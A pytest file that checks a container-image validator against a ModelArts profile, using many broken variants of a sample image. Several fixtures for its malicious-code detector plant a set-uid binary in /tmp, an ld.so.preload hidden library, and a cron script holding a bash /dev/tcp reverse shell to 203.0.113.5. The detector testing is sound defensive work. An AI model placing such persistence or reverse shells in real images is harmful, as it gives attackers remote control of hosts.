"""
The sample image meets the specification, and each way of breaking it fails one rule: the same from every source.

Every variant is judged four ways: as docker-archive and as OCI archive, from a file that can be sought and from a pipe.
"""

from __future__ import annotations

import functools
import io
import json
from collections.abc import Callable, Iterable
from typing import BinaryIO, cast

import attrs
import pytest

import imagespec
from imagespec.profiles import Profile, load_profile
from imagespec.results import ImageReport, Report, RuleResult
from imagespec.verdict import Outcome, Verdict
from tests.build import Item, Pipe, compress, digest, directory, elf, file, program, symlink, whiteout
from tests.sampleimage import BOOT, JAVA_HOME, MODEL, SERVER, Members, Sample, changed, package, sample

PASS, FAIL, UNKNOWN, NONE = Verdict.PASS, Verdict.FAIL, Verdict.UNKNOWN, Verdict.NOT_APPLICABLE
BATCH, REAL_TIME = "batch", "real-time"
BATCH_RULES = ("boot-file", "boot-command", "packages")
NOTHING_STARTS = ("service-port", "inference-api", "health-check", "log-output")
"""Rules that speak of a running server: without one they have nothing to judge."""
READ_FILES = (*NOTHING_STARTS, *BATCH_RULES)

WAYS: dict[str, tuple[str, Callable[[bytes], BinaryIO]]] = {
    "docker-file": ("docker", io.BytesIO),
    "docker-pipe": ("docker", lambda data: cast("BinaryIO", Pipe(data))),
    "oci-file": ("oci", io.BytesIO),
    "oci-pipe": ("oci", lambda data: cast("BinaryIO", Pipe(data))),
}


@attrs.frozen(kw_only=True)
class Variant:
    """One change to the good image, and the one rule that it breaks."""

    rule: str
    image: Callable[[], Sample]
    words: tuple[str, ...]
    """What the rule's summary or evidence says."""
    services: tuple[str, ...] = (REAL_TIME, BATCH)
    profile: str | Callable[[], Profile] = "modelarts"
    verdict: Verdict = FAIL
    open: tuple[str, ...] = ()
    """Further rules that become unknown, because the broken thing is what they would judge."""
    both: bool = False
    """Whether it is about archives with both manifests, and so has no OCI form."""
    problem: str | None = None
    """Slug of the problem that the report must name, and no other."""


def model(change: Callable[[dict[str, object]], object]) -> Sample:
    """Return the image with a change to its config.json."""
    document = json.loads(MODEL)
    change(document)
    return sample(model=json.dumps(document))


def limited(factor: float) -> Callable[[], Profile]:
    """Return a profile whose size limit is the good image's size times a factor."""

    def make() -> Profile:
        profile = load_profile("modelarts")
        size = judge(sample(), REAL_TIME, "docker-file").inputs[0].images[0].sizes.docker_bytes
        assert size
        rules = [
            attrs.evolve(rule, parameters={"limit_gb": size * factor / 10**9})
            if rule.rule.id == "image-size"
            else rule
            for rule in profile.rules
        ]
        return attrs.evolve(profile, rules=tuple(rules))

    return make


def with_server(old: str, new: str) -> Callable[[], Sample]:
    return lambda: sample(server=changed(SERVER, old, new))


def with_boot(old: str, new: str, *top: Item) -> Callable[[], Sample]:
    return lambda: sample(*top, boot=changed(BOOT, old, new))


def gunicorn(address: str) -> Sample:
    boot = changed(BOOT, "exec python3 /home/app/server.py", f"exec gunicorn --bind {address} server:app")
    return sample(*package("gunicorn", console_script=True), boot=boot)


RUN_LINE, START_LINE = 'app.run(host="0.0.0.0", port=8080)', "exec python3 /home/app/server.py"
LOGGING = 'logging.basicConfig(stream=sys.stdout, level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")'


# Damage to archives.


def flip_bit(image: Sample, members: Members, kind: str) -> Members:
    """Change one bit of a file's content in the base layer, and keep every name."""
    raw = image.layers[0]
    at = raw.index(b"Sample Linux 1")
    flipped = raw[:at] + bytes([raw[at] ^ 1]) + raw[at + 1 :]
    return {**members, image.layer_name(0, kind): compress(flipped, "gzip" if kind == "oci" else "plain")[0]}


def lose_layer(image: Sample, members: Members, kind: str) -> Members:
    lost = image.layer_name(1, kind)
    return {name: data for name, data in members.items() if name != lost}


def disagree(_image: Sample, members: Members, _kind: str) -> Members:
    """Let index.json list the layers in another order than manifest.json."""
    index = json.loads(members["index.json"])
    (row,) = index["manifests"]
    manifest = json.loads(members.pop("blobs/sha256/" + row["digest"][7:]))
    manifest["layers"].reverse()
    raw = json.dumps(manifest).encode()
    row.update(digest=digest(raw), size=len(raw))
    return {**members, "blobs/sha256/" + digest(raw)[7:]: raw, "index.json": json.dumps(index).encode()}


def lose_diff_id() -> Sample:
    good = sample()
    document = json.loads(good.document)
    document["rootfs"]["diff_ids"].pop()
    return attrs.evolve(good, document=json.dumps(document).encode())


VARIANTS = {
    "larger than the limit": Variant(
        rule="image-size", image=sample, profile=limited(0.9), words=("more than the",)
    ),
    "between GB and GiB": Variant(
        rule="image-size", image=sample, profile=limited(0.95), verdict=UNKNOWN, words=("2^30",)
    ),
    "Flask on 5000": Variant(
        rule="service-port",
        image=with_server("port=8080", "port=5000"),
        words=("port 5000", "not on port 8080"),
    ),
    "Flask on loopback": Variant(
        rule="service-port",
        image=with_server("0.0.0.0", "127.0.0.1"),
        words=("127.0.0.1", "only the container itself"),
    ),
    "Flask on its default host": Variant(
        rule="service-port", image=with_server('host="0.0.0.0", ', ""), words=("127.0.0.1", "port 8080")
    ),
    "Flask without arguments": Variant(
        rule="service-port", image=with_server(RUN_LINE, "app.run()"), words=("127.0.0.1", "port 5000")
    ),
    "gunicorn on loopback": Variant(
        rule="service-port", image=lambda: gunicorn("127.0.0.1:8080"), words=("gunicorn", "127.0.0.1")
    ),
    "gunicorn not installed": Variant(
        rule="service-port",
        image=with_boot(START_LINE, "exec gunicorn --bind 0.0.0.0:8080 server:app"),
        words=("cannot start", "gunicorn"),
        open=NOTHING_STARTS[1:],
    ),
    "url not in the server": Variant(
        rule="inference-api",
        image=with_server('"/", methods', '"/predict", methods'),
        words=("POST /", "/predict"),
    ),
    "url served for another method": Variant(
        rule="inference-api",
        image=with_server('methods=["POST"]', 'methods=["PUT"]'),
        words=("POST /", "405"),
    ),
    "procotol": Variant(
        rule="inference-api",
        image=lambda: sample(
            model=MODEL.replace(
                '"protocol": "http",\n            "url"', '"procotol": "http",\n            "url"'
            )
        ),
        words=("did you mean 'protocol'",),
    ),
    "config.json broken": Variant(
        rule="inference-api",
        image=lambda: sample(model=MODEL.replace('"POST",', '"POST"')),
        words=("broken JSON at line 9",),
        open=("health-check",),
    ),
    "model_type of another engine": Variant(
        rule="inference-api",
        image=lambda: model(lambda top: top.update(model_type="TensorFlow")),
        words=("model_type Image",),
    ),
    "no health check": Variant(
        rule="health-check",
        image=lambda: model(lambda top: top.pop("health")),
        words=("requires a health check",),
    ),
    "no health check, optional": Variant(
        rule="health-check",
        image=lambda: model(lambda top: top.pop("health")),
        profile="modelarts-cn-2021",
        verdict=NONE,
        words=("optional",),
    ),
    "health check not served": Variant(
        rule="health-check",
        image=with_server('"/health", methods', '"/healthz", methods'),
        words=("GET /health", "404"),
    ),
    "health check with another slash": Variant(
        rule="health-check",
        image=with_server('"/health", methods', '"/health/", methods'),
        words=("redirect",),
    ),
    "health check without url": Variant(
        rule="health-check",
        image=lambda: model(lambda top: top.update(health={"protocol": "http"})),
        words=("url",),
    ),
    "output redirected": Variant(
        rule="log-output",
        image=with_boot(START_LINE, START_LINE + " > /var/log/app.log 2>&1", directory("var/log")),
        words=("/var/log/app.log",),
    ),
    "log in a file": Variant(
        rule="log-output",
        image=with_server(LOGGING, 'logging.basicConfig(filename="/var/log/app.log")'),
        words=("/var/log/app.log",),
    ),
    "no boot file": Variant(
        rule="boot-file",
        image=lambda: sample(boot=None),
        services=(BATCH,),
        words=("/home/run.sh is not in the image",),
        open=(*NOTHING_STARTS, "boot-command"),
    ),
    "boot file is a dangling link": Variant(
        rule="boot-file",
        image=lambda: sample(boot=symlink("home/run.sh", "/opt/run.sh")),
        services=(BATCH,),
        words=("link", "/opt/run.sh"),
        open=(*NOTHING_STARTS, "boot-command"),
    ),
    "boot file is a directory": Variant(
        rule="boot-file",
        image=lambda: sample(boot=directory("home/run.sh")),
        services=(BATCH,),
        words=("directory",),
        open=(*NOTHING_STARTS, "boot-command"),
    ),
    "boot file is empty": Variant(
        rule="boot-file",
        image=lambda: sample(boot=""),
        services=(BATCH,),
        words=("empty",),
        open=NOTHING_STARTS,
    ),
    "boot file of comments": Variant(
        rule="boot-file",
        image=lambda: sample(boot="#!/bin/sh\n# exec python3 /home/app/server.py\n\n"),
        services=(BATCH,),
        words=("comments",),
        open=NOTHING_STARTS,
    ),
    "boot file with CR LF": Variant(
        rule="boot-file",
        image=lambda: sample(
            program("usr/bin/dash"), symlink("usr/bin/sh", "dash"), boot=BOOT.replace("\n", "\r\n")
        ),
        services=(BATCH,),
        words=("CR LF",),
        open=NOTHING_STARTS,
    ),
    "no start command": Variant(
        rule="boot-command",
        image=lambda: sample(Cmd=None),
        services=(BATCH,),
        words=("no start command",),
        open=NOTHING_STARTS,
    ),
    "CMD of a program that is not there": Variant(
        rule="boot-command",
        image=lambda: sample(Cmd=["/opt/start.sh"]),
        services=(BATCH,),
        words=("does not run /home/run.sh", "/opt/start.sh"),
        open=NOTHING_STARTS,
    ),
    "CMD runs the server": Variant(
        rule="boot-command",
        image=lambda: sample(Cmd=["python3", "/home/app/server.py"]),
        services=(BATCH,),
        words=("does not run /home/run.sh",),
    ),
    "ENTRYPOINT swallows CMD": Variant(
        rule="boot-command",
        image=lambda: sample(Entrypoint=["python3", "/home/app/server.py"], Cmd=["sh", "/home/run.sh"]),
        services=(BATCH,),
        words=("python3 /home/app/server.py sh /home/run.sh", "the Cmd names", "arguments of Entrypoint"),
    ),
    "ENTRYPOINT in shell form": Variant(
        rule="boot-command",
        image=lambda: sample(
            Entrypoint=["/bin/sh", "-c", "python3 /home/app/server.py"], Cmd=["/home/run.sh"]
        ),
        services=(BATCH,),
        words=("the Cmd names /home/run.sh", "Cmd is not run"),
    ),
    "no java": Variant(
        rule="packages",
        image=lambda: sample(whiteout("usr/bin/java")),
        services=(BATCH,),
        words=("java is not on the PATH",),
    ),
    "zip is a dangling link": Variant(
        rule="packages",
        image=lambda: sample(symlink("usr/bin/zip", "/opt/zip/bin/zip")),
        services=(BATCH,),
        words=("zip is not on the PATH", "/opt/zip/bin/zip"),
    ),
    "java for another architecture": Variant(
        rule="packages",
        image=lambda: sample(program(f"{JAVA_HOME}/bin/java", elf(183))),
        services=(BATCH,),
        words=("java cannot start", "another processor", "64-bit Arm"),
    ),
    "zip without execute bit": Variant(
        rule="packages",
        image=lambda: sample(file("usr/bin/zip", elf(), 0o644)),
        services=(BATCH,),
        words=("zip is not on the PATH", "execute bit", "0644"),
    ),
    "set-id program in /tmp": Variant(
        rule="malicious-code", image=lambda: sample(file("tmp/helper", elf(), 0o4755)), words=("/tmp/helper",)
    ),
    "ld.so.preload": Variant(
        rule="malicious-code",
        image=lambda: sample(file("etc/ld.so.preload", "/tmp/.hidden.so\n"), file("tmp/.hidden.so", elf())),
        words=("ld.so.preload", "/tmp/.hidden.so"),
    ),
    "reverse shell in a schedule": Variant(
        rule="malicious-code",
        image=lambda: sample(
            program("etc/cron.daily/update", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
        ),
        words=("etc/cron.daily/update",),
    ),
    "flipped bit": Variant(
        rule="archive-integrity", image=lambda: sample(spoil=flip_bit), words=("diff_id of", "is wrong")
    ),
    "lost layer": Variant(
        rule="archive-integrity",
        image=lambda: sample(spoil=lose_layer),
        words=("not in the archive",),
        open=("image-size", *READ_FILES),
        problem="missing-blob",
    ),
    "a diff_id too few": Variant(
        rule="archive-integrity", image=lose_diff_id, words=("6 layers", "5 diff_ids")
    ),
    "two manifests": Variant(
        rule="archive-integrity",
        image=lambda: sample(spoil=disagree),
        words=("index.json",),
        both=True,
    ),
}


def judge(
    image: Sample, service: str, way: str, profile: str | Profile = "modelarts", kind: str = ""
) -> Report:
    form, opener = WAYS[way]
    return imagespec.check(opener(image.archive(kind or form)), service=service, profile=profile, verify=True)


@functools.cache
def reports(name: str, service: str) -> dict[str, Report]:
    """Return the four reports of a variant, by way."""
    variant = VARIANTS[name]
    profile = variant.profile if isinstance(variant.profile, str) else variant.profile()
    image, kind = variant.image(), "both" if variant.both else ""
    return {way: judge(image, service, way, profile, kind) for way in WAYS}


def results(report: Report) -> dict[str, RuleResult]:
    (item,) = report.inputs
    (image,) = item.images
    return {result.rule: result for result in image.results}


def said(outcome: Outcome) -> str:
    """Return everything that an outcome tells, as text."""
    texts: list[str | None] = [outcome.summary, outcome.advice]
    for item in outcome.evidence:
        texts += [item.message, item.path, item.pointer, item.seen, item.wanted]
    return "\n".join(text for text in texts if text)


def expected(variant: Variant, service: str) -> dict[str, Verdict]:
    verdicts = dict.fromkeys((rule.rule.id for rule in load_profile("modelarts").rules), PASS)
    verdicts["malicious-code"] = UNKNOWN
    verdicts.update(dict.fromkeys(variant.open, UNKNOWN))
    verdicts[variant.rule] = variant.verdict
    if service == REAL_TIME:
        verdicts.update(dict.fromkeys(BATCH_RULES, NONE))
    return verdicts


def problems(report: Report) -> list[str]:
    images: Iterable[ImageReport] = report.inputs[0].images
    return [problem.slug for image in images for problem in image.problems]


GOOD: dict[str, Callable[[], Sample]] = {
    "as it is": sample,
    "gunicorn": lambda: gunicorn("0.0.0.0:8080"),
    "exec form": lambda: sample(Cmd=["sh", "/home/run.sh"]),
    "boot file behind a link": lambda: sample(
        file("opt/run.sh", BOOT), boot=symlink("home/run.sh", "/opt/run.sh")
    ),
}


@pytest.mark.parametrize("service", [BATCH, REAL_TIME])
@pytest.mark.parametrize("name", GOOD)
def test_good_image_passes(name: str, service: str) -> None:
    want = dict.fromkeys((rule.rule.id for rule in load_profile("modelarts").rules), PASS)
    want["malicious-code"] = UNKNOWN
    if service == REAL_TIME:
        want.update(dict.fromkeys(BATCH_RULES, NONE))
    for way in WAYS:
        report = judge(GOOD[name](), service, way)
        assert {rule: result.outcome.verdict for rule, result in results(report).items()} == want, way
        assert report.exit_code() == 0
        assert not problems(report)


CASES = [(name, service) for name, variant in VARIANTS.items() for service in variant.services]


@pytest.mark.parametrize(("name", "service"), CASES)
def test_broken_image_fails_its_rule_alone(name: str, service: str) -> None:
    variant = VARIANTS[name]
    for way, report in reports(name, service).items():
        found = results(report)
        verdicts = {rule: result.outcome.verdict for rule, result in found.items()}
        assert verdicts == expected(variant, service), way
        text = said(found[variant.rule].outcome)
        assert [word for word in variant.words if word not in text] == [], text
        assert problems(report) == ([variant.problem] if variant.problem else [])
        assert report.exit_code() == (3 if variant.problem else int(variant.verdict is FAIL))


@pytest.mark.parametrize(("name", "service"), CASES)
def test_every_source_gives_the_same_report(name: str, service: str) -> None:
    told = {
        way: {rule: result.outcome for rule, result in results(report).items()}
        for way, report in reports(name, service).items()
    }
    assert told["docker-file"] == told["docker-pipe"]
    assert told["oci-file"] == told["oci-pipe"]
    # Blobs have other names and further digests in the other form, so what integrity stands on differs.
    for way in ("docker-file", "oci-file"):
        told[way].pop("archive-integrity")
    assert told["docker-file"] == told["oci-file"]
